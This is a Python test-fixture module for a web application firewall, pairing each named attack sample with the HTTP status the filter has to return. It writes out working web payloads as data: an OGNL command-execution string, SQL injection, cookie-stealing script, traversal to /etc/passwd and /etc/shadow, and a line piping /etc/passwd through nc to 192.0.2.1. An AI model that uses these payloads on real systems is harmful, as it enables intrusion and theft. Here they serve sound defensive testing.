"""Attack samples: harmless here, and each with the status that it must get."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote, urlencode

from sekisho.edge import FORM, JSON

OGNL = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))}"
)
BOUNDARY = "----mihon"


def _form(fields: dict[str, str], path: str = "/find", **more: str) -> dict[str, Any]:
    return {
        "method": "POST",
        "path": path,
        "body": urlencode(fields).encode(),
        "headers": {"Content-Type": FORM, **more},
    }


def _raw(body: bytes, content_type: str | None, path: str = "/find", **more: str) -> dict[str, Any]:
    headers = {**more} if content_type is None else {"Content-Type": content_type, **more}
    return {"method": "POST", "path": path, "body": body, "headers": headers}


def _get(path: str, query: str = "", **headers: str) -> dict[str, Any]:
    return {"path": path, "query": query, "headers": headers}


def _part(disposition: str) -> bytes:
    return (
        f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n\r\nx\r\n--{BOUNDARY}--\r\n"
    ).encode()


_MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
_SQL = "1' OR '1'='1' -- "
_UNION = "x' UNION SELECT number, expiry FROM cards -- "
_SCRIPT = "<script>alert(document.cookie)</script>"

ATTACKS: dict[str, tuple[int, dict[str, Any]]] = {
    # CVE-2017-5638 in each header that the parser looked at, on known and unknown pages
    "ognl content type": (403, _raw(b"x", OGNL)),
    "ognl content type, no body": (403, _get("/", **{"Content-Type": OGNL})),
    "ognl content type, unknown page": (403, _get("/login.action", **{"Content-Type": OGNL})),
    "ognl content type, dollar": (403, _raw(b"x", OGNL.replace("%{", "${"))),
    "ognl disposition": (403, _raw(b"x", FORM, **{"Content-Disposition": OGNL})),
    "ognl content length": (403, _get("/", **{"Content-Length": OGNL})),
    "ognl file name (S2-046)": (
        403, _raw(_part(f'form-data; name="f"; filename="{OGNL}"'), _MULTIPART, "/free")
    ),
    # SQL injection
    "sql in a free field": (403, _form({"note": _SQL})),
    "sql in a digits field": (403, _form({"number": _SQL})),
    "sql in a japanese field": (403, _form({"name": _UNION})),
    "sql in an unknown field": (403, _form({"debug": _UNION})),
    "sql in the query": (403, _get("/find", "q=" + quote(_UNION))),
    "sql in an unknown page's query": (403, _get("/nowhere", "id=" + quote(_SQL))),
    "sql in a cookie": (403, _get("/", **{"Cookie": f"sessionid={_SQL}"})),
    "sql in json": (403, _raw(b'{"name": "x\' UNION SELECT a FROM b -- "}', JSON, "/api/bills")),
    "sql stacked": (403, _form({"note": "1; DROP TABLE bills; --"})),
    "sql full width": (403, _form({"number": "１＇　ＯＲ　＇１＇＝＇１"})),
    # script
    "script in a free field": (403, _form({"note": _SCRIPT})),
    "script in an email field": (403, _form({"email": _SCRIPT})),
    "script in the query": (403, _get("/find", "q=" + quote(_SCRIPT))),
    "script in the referrer": (403, _get("/", Referer="http://a/?q=<script>alert(1)</script>")),
    "script by an event": (403, _form({"note": "<img src=x onerror=alert(1)>"})),
    "script by a scheme": (403, _form({"note": "<a href='javascript:alert(1)'>x</a>"})),
    "script twice encoded": (403, _get("/find", "q=" + quote(quote(_SCRIPT)))),
    # traversal and inclusion
    "traversal in the path": (403, _get("/../../../../etc/passwd")),
    "traversal in the query": (403, _get("/find", "q=../../../../etc/passwd")),
    "traversal encoded": (403, _get("/find", "q=..%252f..%252f..%252fetc%252fpasswd")),
    "traversal in a field": (403, _form({"note": "../../../../etc/shadow"})),
    "remote inclusion": (403, _get("/find", "q=http://192.0.2.1/shell.txt")),
    # commands and languages
    "shell command": (403, _form({"note": "; cat /etc/passwd | nc 192.0.2.1 99"})),
    "shellshock": (403, _get("/", **{"User-Agent": "() { :;}; /bin/cat /etc/passwd"})),
    "java class": (403, _form({"note": "java.lang.Runtime.getRuntime().exec('id')"})),
    "php code": (403, _form({"note": "<?php system($_GET['c']); ?>"})),
    "node code": (403, _form({"note": "require('child_process').exec('id')"})),
    "scanner": (403, _get("/", **{"User-Agent": "sqlmap/1.7"})),
    "response splitting": (403, _get("/find", "q=x%0d%0aSet-Cookie:%20a=b")),
    "session fixation": (403, _form({"note": "<script>document.cookie='sessionid=1'</script>"})),
    # malformed
    "broken escape": (400, _raw(b"note=%zz", FORM)),
    "not utf-8": (400, _raw(b"note=%82%a0%ff", FORM)),
    "utf-16 form": (400, _raw("note=見本".encode("utf-16"), FORM)),
    "script in a utf-16 form": (403, _raw("note=<script>".encode("utf-16"), FORM)),
    "nul in a value": (400, _raw(b"note=a%00b", FORM)),
    "field twice": (400, _raw(b"number=1&number=2", FORM)),
    "unknown field": (400, _form({"admin": "1"})),
    "unknown query field": (400, _get("/find", "debug=1")),
    "hidden field changed": (400, _form({"form_token": "not a token!"})),
    "choice that is none": (400, _form({"kind": "7"})),
    "too many fields": (400, _raw(b"&".join(b"a%d=1" % n for n in range(150)), FORM)),
    "json malformed": (400, _raw(b'{"a": ', JSON, "/api/bills")),
    "json utf-16": (400, _raw('{"a": 1}'.encode("utf-16"), JSON, "/api/bills")),
    "json too deep": (400, _raw(b"[" * 40 + b"]" * 40, JSON, "/api/bills")),
    "json very deep": (400, _raw(b"[" * 30_000, JSON, "/api/bills")),
    "json name twice": (400, _raw(b'{"a": 1, "a": 2}', JSON, "/api/bills")),
    "json not a number": (400, _raw(b'{"a": NaN}', JSON, "/api/bills")),
    "json unknown field": (400, _raw(b'{"role": "admin"}', JSON, "/api/closed")),
    "multipart without its boundary": (400, _raw(b"--other\r\n\r\n", _MULTIPART, "/free")),
    "length that is none": (400, _get("/", **{"Content-Length": "-1"})),
    "length too long": (400, _raw(b"note=a", FORM, **{"Content-Length": "50"})),
    "body on a get": (400, {"path": "/", "body": b"a=b", "headers": {"Content-Type": FORM}}),
    # oversized
    "body too large": (413, _raw(b"note=" + b"a" * 70_000, FORM)),
    "length announced too large": (413, _raw(b"x", FORM, **{"Content-Length": "99999999999"})),
    "field too long": (413, _form({"note": "あ" * 2001})),
    "digits too long": (413, _form({"number": "1" * 41})),
    "free value too long": (413, _form({"note": "a" * 3000}, "/free")),
    "json text too long": (413, _raw(b'{"a": "' + b"a" * 3000 + b'"}', JSON, "/api/bills")),
    "stream too large": (413, _raw(b"a" * 100_001, "text/csv", "/upload")),
    "address too long": (414, _get("/find", "q=" + "a" * 5000)),
    "headers too large": (431, _get("/", **{"X-Long": "a" * 9000})),
    "too many cookies": (431, _get("/", Cookie="a=b;" * 60)),
    # types and encodings
    "json untyped": (415, _raw(b'{"a": 1}', None, "/api/bills")),
    "json as text": (415, _raw(b'{"a": 1}', "text/plain", "/api/bills")),
    "form where json is taken": (415, _raw(b"a=1", FORM, "/api/bills")),
    "xml": (415, _raw(b"<!DOCTYPE a [<!ENTITY b SYSTEM 'x'>]><a>&b;</a>", "text/xml")),
    "shift_jis form": (415, _raw(b"note=a", FORM + "; charset=shift_jis")),
    "utf-7 form": (415, _raw(b"note=%2BADw-script", FORM + "; charset=utf-7")),
    "gzip": (415, _raw(b"\x1f\x8b\x08", FORM, **{"Content-Encoding": "gzip"})),
    "encoded twice": (415, _raw(b"x", FORM, **{"Content-Encoding": "identity, gzip"})),
    # not there
    "unknown page": (404, _get("/wp-login")),
    "unknown method": (405, {"method": "PUT", "path": "/find"}),
}  # fmt: skip
